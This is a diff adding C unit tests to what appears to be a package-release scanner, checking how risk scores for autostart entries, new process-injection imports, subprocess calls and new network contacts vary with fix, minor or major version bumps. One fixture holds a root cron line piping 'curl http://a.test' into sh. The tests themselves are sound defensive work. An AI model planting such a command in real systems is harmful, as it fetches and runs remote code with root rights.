@@ -285,3 +285,56 @@ Test(checks, each_is_silent_in_its_harmless_twin)
         cr_expect(!speaks(c->check, c->twin_before ? c->twin_before : c->before, c->twin_after), "%s", c->check);
     }
 }
+
+/* ---- what a version lets expect ---- */
+
+static uint16_t score_in(const char *check, const char *version, const char *old_text, const char *new_text)
+{
+    char was[2048], is[2048];
+    snprintf(was, sizeof(was), "= v tar 9 v\nproperty|product|x\nproperty|version|1.4.2\n%s", old_text);
+    snprintf(is, sizeof(is), "= v tar 9 w\nproperty|product|x\nproperty|version|%s\n%s", version, new_text);
+    MADE_AUTO(before) = release_of("old", was);
+    MADE_AUTO(after) = release_of("new", is);
+    TRN_AUTO(trn_diff_freep) struct trn_diff *d = made_diff(before, after);
+    const struct trn_finding *f = found(d, check);
+    return f ? f->score : 0;
+}
+
+Test(checks, what_a_fix_brings_weighs_more_than_what_a_new_version_does)
+{
+    static const struct {
+        const char *check, *before, *after;
+        uint16_t fix, minor, major;
+    } rows[] = {
+        {"diff.autostart", "", "= lib/systemd/system/x.service text 9 b\nservice|systemd|x.service: /usr/bin/x\n", 40,
+         28, 20},
+        {"diff.autostart", "", "= etc/cron.d/x text 9 b\nservice|cron|x: * * * * * root curl http://a.test | sh\n", 45,
+         45, 45},
+        {"diff.new-capability", DLL("a") "import|k|malloc\n", DLL("b") "import|k|malloc\nimport|k|connect\n", 40, 28,
+         20},
+        {"diff.new-capability", DLL("a") "import|k|ptrace\nimport|k|VirtualAllocEx\n",
+         DLL("b") "import|k|ptrace\nimport|k|VirtualAllocEx\nimport|k|WriteProcessMemory\nimport|k|"
+                  "CreateRemoteThread\n",
+         40, 28, 20},
+        {"diff.script-capability", "= x/a.py python 9 a\ncall|file|open\n",
+         "= x/a.py python 9 b\ncall|process|subprocess\n", 40, 20, 10},
+        {"diff.new-contact", "= x/a.py python 9 a\ncall|network|requests\n",
+         "= x/a.py python 9 b\ncall|network|requests\ntext|url|http://203.0.113.9/|2\n", 40, 40, 20},
+    };
+    for (size_t i = 0; i < TRN_ARRAY_SIZE(rows); i++) {
+        cr_expect_eq(score_in(rows[i].check, "1.4.3", rows[i].before, rows[i].after), rows[i].fix, "%zu", i);
+        cr_expect_eq(score_in(rows[i].check, "1.5.0", rows[i].before, rows[i].after), rows[i].minor, "%zu", i);
+        cr_expect_eq(score_in(rows[i].check, "2.0.0", rows[i].before, rows[i].after), rows[i].major, "%zu", i);
+    }
+}
+
+/* The package can hand an address to its other scripts; alone it goes nowhere. */
+Test(checks, an_address_weighs_when_some_script_can_go_there)
+{
+    static const char names[] = "= x/a.py python 9 b\ntext|url|http://203.0.113.9/|2\n";
+    static const char other[] = "= x/b.py python 9 c\ncall|network|requests\n";
+    char with[400];
+    snprintf(with, sizeof(with), "%s%s", names, other);
+    cr_expect_eq(score_in("diff.new-contact", "1.4.3", "= x/a.py python 9 a\n", names), 12);
+    cr_expect_eq(score_in("diff.new-contact", "1.4.3", other, with), 40);
+}
